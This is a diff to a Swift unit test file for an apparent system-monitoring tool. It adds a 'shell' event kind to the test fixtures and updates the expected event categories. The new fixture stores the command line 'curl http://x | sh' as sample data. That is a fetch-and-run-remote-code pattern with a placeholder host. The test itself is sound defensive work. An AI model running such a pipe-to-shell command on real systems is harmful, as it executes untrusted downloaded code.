@@ -61,6 +61,13 @@ final class EventKindWalkTests: XCTestCase {
             var e = vigil_syscall_event()
             e.nr = UInt32(Syscalls.named("getpid")?.number() ?? 39); e.ret = 4242; e.latency_ns = 100
             return bytes(e, [])
+        case .shell:
+            var e = vigil_shell_event()
+            let line = Array("curl http://x | sh".utf8)
+            withUnsafeMutableBytes(of: &e.line) { for (i, b) in line.enumerated() { $0[i] = b } }
+            withUnsafeMutableBytes(of: &e.tty) { for (i, b) in "pts3".utf8.enumerated() { $0[i] = b } }
+            e.line_len = UInt16(line.count); e.sid = 4240; e.tty_major = 136; e.tty_minor = 3
+            return bytes(e, [])
         case .fim:
             return nil
         }
@@ -214,8 +221,8 @@ final class EventKindWalkTests: XCTestCase {
         XCTAssertEqual(RuleSet.dedicatedSyscalls[.exec], ["execve", "execveat"])
         XCTAssertEqual(RuleSet.dedicatedSyscalls[.open], ["open", "openat", "openat2"])
         XCTAssertNil(RuleSet.dedicatedSyscalls[.exit], "exit events are procexit, not the exit syscalls")
-        XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "proc"), [.exec, .fork, .exit])
-        XCTAssertEqual(EventKindDescriptor.ownCapture, [.exec, .fork, .exit, .open, .conn, .tcpdrop])
+        XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "proc"), [.exec, .fork, .exit, .shell])
+        XCTAssertEqual(EventKindDescriptor.ownCapture, [.exec, .fork, .exit, .open, .conn, .tcpdrop, .shell])
         XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "net"), [.conn, .tcpdrop])
         XCTAssertEqual(EventKindDescriptor.kinds(inCategory: "fs"), [.open], "fim events are made in userspace, not captured")
         for kind in EventKind.allCases {
